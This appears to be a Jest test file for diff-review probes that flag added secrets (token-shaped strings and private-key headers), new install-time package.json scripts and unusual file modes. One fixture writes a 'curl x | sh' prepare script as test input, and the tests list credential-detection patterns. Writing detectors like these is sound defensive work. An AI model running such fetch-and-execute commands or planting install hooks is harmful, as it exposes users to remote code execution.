import { describe, expect, test } from "@jest/globals";
import { addedLines } from "../../src/probes/added-lines.js";
import { irregularMode } from "../../src/probes/supply/irregular-mode.js";
import { lifecycleScripts } from "../../src/probes/dependencies/lifecycle-scripts.js";
import { secretMaterial } from "../../src/probes/secrets/secret-material.js";
import { aFile } from "../support/builders.js";

const adding = (...lines: readonly string[]) =>
  `@@ -0,0 +1,${lines.length} @@\n${lines.map((line) => `+${line}`).join("\n")}`;
const made = (prefix: string, alphabet: string, length: number) => prefix + alphabet.repeat(length).slice(0, length);

describe("secretMaterial", () => {
  test.each<{ why: string; line: string; kind: string | null }>([
    { why: "a GitHub token", line: `token = "${made("ghp_", "aB3", 36)}"`, kind: "a GitHub token" },
    {
      why: "a fine-grained GitHub token",
      line: `${made("github_pat_", "aB3", 22)}_${made("", "aB3", 59)}`,
      kind: "a GitHub token",
    },
    { why: "an AWS key id", line: made("AKIA", "ABC2", 16), kind: "an AWS access key" },
    { why: "a Slack token", line: made("xoxb-", "123-abc", 40), kind: "a Slack token" },
    { why: "a Stripe live key", line: made("sk_live_", "aB3", 24), kind: "a Stripe live key" },
    { why: "an npm token", line: made("npm_", "aB3", 36), kind: "an npm token" },
    { why: "a Google key", line: made("AIza", "aB3-_", 34) + "x", kind: "a Google API key" },
    { why: "a GitLab token", line: made("glpat-", "aB3", 20), kind: "a GitLab token" },
    { why: "a public key", line: "-----BEGIN PUBLIC KEY-----", kind: null },
    { why: "a Stripe test key", line: made("sk_test_", "aB3", 24), kind: null },
    { why: "a token that is too short", line: "ghp_short", kind: null },
    { why: "a placeholder", line: "AWS_ACCESS_KEY_ID=<your key>", kind: null },
  ])("$why → $kind", ({ line, kind }) => {
    const signals = secretMaterial.ask(aFile("config/app.env", { patch: adding("first", line) }));
    expect(signals.map(({ because }) => because)).toEqual(
      kind === null ? [] : [`line 2 of config/app.env adds what looks like ${kind}`],
    );
  });
  const body = made("", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC", 64);
  test.each<{ why: string; lines: readonly string[]; tier: string }>([
    { why: "a key over several lines", lines: ["-----BEGIN RSA PRIVATE KEY-----", body], tier: "block" },
    { why: "a key in PKCS 8, indented", lines: ["  -----BEGIN PRIVATE KEY-----", `  ${body}`], tier: "block" },
    { why: "a key on one line, as in JSON", lines: [`"-----BEGIN PRIVATE KEY-----\\n${body}\\n"`], tier: "block" },
    { why: "an encrypted key", lines: ["-----BEGIN RSA PRIVATE KEY-----", "Proc-Type: 4,ENCRYPTED"], tier: "block" },
    {
      why: "the header alone, as in a test",
      lines: ['expect(key).toMatch("-----BEGIN PRIVATE KEY-----");', "});"],
      tier: "strong",
    },
  ])("$why → $tier", ({ lines, tier }) => {
    expect(secretMaterial.ask(aFile("a.pem", { patch: adding(...lines) })).map((signal) => signal.tier)).toEqual([
      tier,
    ]);
  });
  test("is proof, so it blocks, and never repeats the value", () => {
    const token = made("ghp_", "aB3", 36);
    const [signal] = secretMaterial.ask(aFile("a.txt", { patch: adding(token) }));
    expect(signal).toMatchObject({ tier: "block", classId: "secrets", line: 1 });
    expect(JSON.stringify(signal)).not.toContain(token);
  });
  test("taking a secret away is no leak", () => {
    expect(secretMaterial.ask(aFile("a.txt", { patch: `@@ -1 +0,0 @@\n-${made("ghp_", "aB3", 36)}` }))).toEqual([]);
  });
});

describe("lifecycleScripts", () => {
  const before = '{"scripts":{"test":"jest"}}';
  test.each<{ why: string; before: string | null; after: string | null; scripts: readonly string[] }>([
    {
      why: "a postinstall is added",
      before,
      after: '{"scripts":{"postinstall":"node x.js"}}',
      scripts: ["postinstall"],
    },
    {
      why: "a prepare changed",
      before: '{"scripts":{"prepare":"husky"}}',
      after: '{"scripts":{"prepare":"curl x | sh"}}',
      scripts: ["prepare"],
    },
    {
      why: "it stays as it was",
      before: '{"scripts":{"prepare":"husky"}}',
      after: '{"scripts":{"prepare":"husky"},"version":"2.0.0"}',
      scripts: [],
    },
    {
      why: "only a script that a person runs",
      before,
      after: '{"scripts":{"test":"vitest","lint":"eslint"}}',
      scripts: [],
    },
    { why: "it is taken away", before: '{"scripts":{"install":"x"}}', after: "{}", scripts: [] },
    { why: "a new manifest with one", before: null, after: '{"scripts":{"preinstall":"x"}}', scripts: ["preinstall"] },
  ])("$why", ({ before, after, scripts }) => {
    const signals = lifecycleScripts
      .ask(aFile("web/package.json", { content: { before, after } }))
      .filter((one) => one.classId === "build");
    expect(signals.map(({ because }) => because)).toEqual(
      scripts.map((name) => `web/package.json gains the script "${name}", which runs by itself at install`),
    );
  });
  test.each<{ why: string; file: ReturnType<typeof aFile> }>([
    { why: "text that does not parse", file: aFile("package.json", { content: { before, after: "{" } }) },
    { why: "a manifest that is a list", file: aFile("package.json", { content: { before, after: "[]" } }) },
    {
      why: "scripts that are no object",
      file: aFile("package.json", { content: { before, after: '{"scripts":"x"}' } }),
    },
  ])("cannot tell: $why", ({ file }) => {
    expect(lifecycleScripts.ask(file)).toEqual([
      expect.objectContaining({ tier: "approve", classId: "build" }),
      expect.objectContaining({ tier: "approve", classId: "dependencies" }),
    ]);
  });
  test("other files are not asked", () => {
    expect(lifecycleScripts.ask(aFile("package-lock.json"))).toEqual([]);
  });
});

describe("irregularMode", () => {
  test.each<{ why: string; file: Parameters<typeof aFile>[1]; says: readonly string[] }>([
    { why: "a regular file", file: {}, says: [] },
    { why: "a symbolic link", file: { mode: "120000" }, says: ["build approve"] },
    { why: "a submodule", file: { mode: "160000" }, says: ["dependencies approve"] },
    { why: "a new executable", file: { mode: "100755", status: "added" }, says: ["build review"] },
    { why: "a file that became executable", file: { mode: "100755", status: "changed" }, says: ["build review"] },
    { why: "an edit of an executable", file: { mode: "100755" }, says: [] },
    { why: "a mode that could not be read", file: { mode: null }, says: ["unseen review"] },
    { why: "a removed link", file: { mode: "120000", status: "removed" }, says: [] },
  ])("$why", ({ file, says }) => {
    expect(irregularMode.ask(aFile("docs/a.md", file)).map(({ classId, tier }) => `${classId} ${tier}`)).toEqual(says);
  });
});

describe("addedLines", () => {
  test("numbers lines at the head, over several hunks", () => {
    expect(
      addedLines("@@ -1,3 +1,3 @@ f()\n a\n-b\n+B\n c\n@@ -10 +10,2 @@\n x\n+y\n\\ No newline at end of file"),
    ).toEqual([
      { line: 2, text: "B" },
      { line: 11, text: "y" },
    ]);
  });
});
